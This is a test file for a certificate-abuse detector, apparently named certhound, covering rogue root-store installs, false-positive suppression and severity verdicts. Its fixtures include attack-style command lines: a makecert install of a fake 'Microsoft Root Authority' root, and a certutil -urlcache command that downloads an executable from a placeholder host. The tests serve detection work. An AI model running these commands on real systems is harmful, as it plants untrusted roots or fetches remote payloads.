/**
 * certhound's own verdict and the false-positive tuning of HostConfig (the seed's "False Positives & Tuning":
 * ACME renewal agents, local development, corporate CA deployment), plus the seed's output order.
 */
import { DEFAULT_HOST_CONFIG, detectHost, hostConfigFrom, seedRows, sortNewestFirst, type HostConfig, type HostDetection, type HostEvent } from '../../src/host';

const CERTUTIL = 'C:\\Windows\\System32\\certutil.exe';
const PS = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';

function proc(p: Partial<HostEvent> & { image: string; commandLine: string }): HostEvent {
  return { time: Date.UTC(2026, 2, 1), kind: 'process', source: { file: 'detect', format: 'cse-json' }, ...p };
}
function registry(store: string, image: string, thumb = 'ad898ac73df333eb60ac1f5fc6c4b2219ddb79b7', action: HostEvent['registryAction'] = 'set'): HostEvent {
  return {
    time: Date.UTC(2026, 2, 1),
    kind: 'registry',
    image,
    registryKey: `HKLM\\SOFTWARE\\Microsoft\\SystemCertificates\\${store}\\Certificates\\${thumb.toUpperCase()}\\Blob`,
    registryStore: store,
    registryThumbprint: thumb,
    registryAction: action,
    source: { file: 'detect', format: 'sysmon-xml' },
  };
}
const run = (ev: HostEvent, config: HostConfig = DEFAULT_HOST_CONFIG): HostDetection | null => detectHost(ev, config);

describe('suppression: the detection stays, flagged with a reason', () => {
  it('ACME renewal agent by parent image (win-acme)', () => {
    const d = run(proc({ image: CERTUTIL, commandLine: 'certutil -f -p x -importpfx WebHosting C:\\ProgramData\\win-acme\\c.pfx', parentImage: 'C:\\Tools\\win-acme\\wacs.exe' }))!;
    expect(d.seed).toEqual({ detectionBranch: 'CertUtilStoreImport', targetsRootStore: 'false' });
    expect(d.suppressed).toEqual({ reason: 'ACME renewal agent: parent wacs.exe' });
  });

  it('Posh-ACME named in the parent command line', () => {
    const d = run(proc({ image: PS, commandLine: 'powershell.exe -c "Import-PfxCertificate -FilePath c.pfx -CertStoreLocation Cert:\\LocalMachine\\My"', parentCommandLine: 'powershell.exe -c Submit-Renewal -AllOrders' }))!;
    expect(d.suppressed?.reason).toBe('ACME renewal agent: command names submit-renewal');
  });

  it('local development: only localhost / 127.0.0.1 named; one outside name is enough to keep it', () => {
    const local = run(proc({ image: '/usr/bin/openssl', commandLine: 'openssl req -x509 -newkey rsa:2048 -nodes -subj /CN=localhost -addext subjectAltName=DNS:localhost,IP:127.0.0.1 -out c.pem' }))!;
    expect(local.suppressed?.reason).toMatch(/^local development/);
    const mixed = run(proc({ image: '/usr/bin/openssl', commandLine: 'openssl req -x509 -newkey rsa:2048 -nodes -subj /CN=localhost -addext subjectAltName=DNS:login.example -out c.pem' }))!;
    expect(mixed.suppressed).toBeUndefined();
  });

  it('corporate CA deployment: listed thumbprint, subject, admin host', () => {
    const config: HostConfig = {
      ...DEFAULT_HOST_CONFIG,
      corporateThumbprints: ['AD:89:8A:C7:3D:F3:33:EB:60:AC:1F:5F:C6:C4:B2:21:9D:DB:79:B7'],
      corporateSubjects: ['Contoso Issuing CA'],
      corporateAdminHosts: ['PKIADMIN01'],
    };
    expect(run(registry('Root', 'C:\\Windows\\System32\\certutil.exe'), config)!.suppressed?.reason).toMatch(/thumbprint ad898ac7/);
    expect(run(proc({ image: 'C:\\SDK\\makecert.exe', commandLine: 'makecert -n "CN=Contoso Issuing CA" -ic r.cer -iv r.pvk s.cer' }), config)!.suppressed?.reason).toMatch(/subject "Contoso Issuing CA"/);
    expect(run(proc({ image: CERTUTIL, commandLine: 'certutil -addstore Root corp-root.cer', host: 'pkiadmin01.corp.example' }), config)!.suppressed?.reason).toMatch(/admin host/);
    expect(run(proc({ image: CERTUTIL, commandLine: 'certutil -addstore Root corp-root.cer', host: 'ws17.corp.example' }), config)!.suppressed).toBeUndefined();
  });

  it('automatic root update covers svchost writing AuthRoot only, not Root', () => {
    expect(run(registry('AuthRoot', 'C:\\Windows\\system32\\svchost.exe'))).toMatchObject({ verdict: { severity: 'info' }, suppressed: { reason: 'Windows automatic root update: svchost.exe writing AuthRoot' } });
    const root = run(registry('Root', 'C:\\Windows\\system32\\svchost.exe'))!;
    expect([root.verdict.severity, root.suppressed]).toEqual(['high', undefined]);
  });
});

describe('certhound verdict', () => {
  it('registry: stores outside the configured list and deletions are not reported; CA is medium', () => {
    expect(run(registry('My', 'C:\\x\\a.exe'))).toBeNull();
    expect(run(registry('Root', 'C:\\x\\a.exe', undefined, 'delete'))).toBeNull();
    expect(run(registry('CA', 'C:\\x\\a.exe'))!.verdict.severity).toBe('medium');
  });

  it('a brand in the subject of a root it installs: two high reasons make it critical', () => {
    const d = run(proc({ image: 'C:\\SDK\\makecert.exe', commandLine: 'makecert -r -pe -n "CN=Microsoft Root Authority" -ss Root -sr LocalMachine' }))!;
    expect(d.verdict.severity).toBe('critical');
    expect(d.verdict.reasons).toEqual(
      expect.arrayContaining(['imports a certificate into the Root store', 'names "microsoft", a brand it does not belong to']),
    );
  });

  it('a brand named by a command that makes nothing (certmgr /del /n) is no impersonation', () => {
    const d = run(proc({ image: 'C:\\SDK\\certmgr.exe', commandLine: 'certmgr /del /n "Microsoft Root Authority" /s root' }))!;
    expect(d.names.commonName).toBe('Microsoft Root Authority');
    expect(d.verdict.reasons.some((r) => r.includes('brand'))).toBe(false);
  });

  it('a brand inside a longer word is no impersonation', () => {
    const d = run(proc({ image: '/usr/bin/openssl', commandLine: 'openssl req -x509 -key k.pem -subj /CN=applesauce.example -out c.pem' }))!;
    expect(d.verdict.severity).toBe('medium');
  });

  it('trust-anchor installs outside Windows are root installs', () => {
    expect(run(proc({ image: '/usr/bin/security', commandLine: 'security add-trusted-cert -d -r trustRoot -k /Library/Keychains/System.keychain rootCA.crt' }))).toMatchObject({ rootStore: true, verdict: { severity: 'high' } });
    expect(run(proc({ image: '/usr/bin/trust', commandLine: 'trust anchor /tmp/ca.pem' }))).toMatchObject({ rootStore: true, seed: null });
    expect(run(proc({ image: '/usr/sbin/update-ca-certificates', commandLine: 'update-ca-certificates' }))!.verdict.severity).toBe('low');
  });

  it('other processes and other certutil verbs are not detections', () => {
    expect(run(proc({ image: 'C:\\Windows\\System32\\notepad.exe', commandLine: 'notepad root.cer' }))).toBeNull();
    expect(run(proc({ image: CERTUTIL, commandLine: 'certutil -urlcache -split -f http://x/y.exe y.exe' }))).toBeNull();
  });
});

describe('seed output', () => {
  it('seedRows: only seed matches, newest first, with the query\'s field names', () => {
    const at = (t: number, commandLine: string, image = '/usr/bin/openssl') => run(proc({ image, commandLine, time: t, host: `h${t}` }))!;
    const ds = [at(1, 'openssl genrsa 2048'), at(3, 'openssl version'), at(2, 'certutil /addstore root x.cer', CERTUTIL)];
    expect(sortNewestFirst(ds).map((d) => d.event.time)).toEqual([3, 2, 1]);
    expect(seedRows(ds)).toEqual([
      { _messagetime: 3, device_hostname: 'h3', user_username: undefined, baseImage: '/usr/bin/openssl', commandLine: 'openssl version', parentBaseImage: undefined, detectionBranch: 'CertGenToolExecution', targetsRootStore: 'false' },
      { _messagetime: 1, device_hostname: 'h1', user_username: undefined, baseImage: '/usr/bin/openssl', commandLine: 'openssl genrsa 2048', parentBaseImage: undefined, detectionBranch: 'CertGenToolWithArgs', targetsRootStore: 'false' },
    ]);
  });
});

describe('hostConfigFrom', () => {
  it('known lists replace the defaults; unknown keys and wrong types are reported, defaults kept', () => {
    const { config, problems } = hostConfigFrom({ corporateAdminHosts: ['PKI01'], acmeParentImages: 'wacs.exe', colour: ['red'] });
    expect(config.corporateAdminHosts).toEqual(['PKI01']);
    expect(config.acmeParentImages).toEqual(DEFAULT_HOST_CONFIG.acmeParentImages);
    expect(problems).toEqual(['host config: acmeParentImages must be a list of strings', 'host config: unknown key colour']);
    expect(hostConfigFrom([1]).problems).toEqual(['host config: expected an object']);
    expect(hostConfigFrom(undefined)).toEqual({ config: DEFAULT_HOST_CONFIG, problems: [] });
  });
});

describe('src/host/README.md example rows not covered elsewhere', () => {
  it('certutil -addstore AuthRoot: seed "true", certhound root, high', () => {
    expect(run(proc({ image: CERTUTIL, commandLine: 'certutil -addstore AuthRoot x.cer' }))).toMatchObject({
      seed: { detectionBranch: 'CertUtilStoreImport', targetsRootStore: 'true' },
      tool: 'certutil',
      store: 'AuthRoot',
      rootStore: true,
      verdict: { severity: 'high' },
    });
  });
  it('a CSR whose CN contains "trustedpeople": seed "true", certhound not root, low', () => {
    const d = run(proc({ image: '/usr/bin/openssl', commandLine: 'openssl req -new -subj /CN=trustedpeople.example -key k.pem -out r.csr' }))!;
    expect([d.seed?.targetsRootStore, d.store, d.rootStore, d.verdict.severity]).toEqual(['true', undefined, false, 'low']);
  });
});
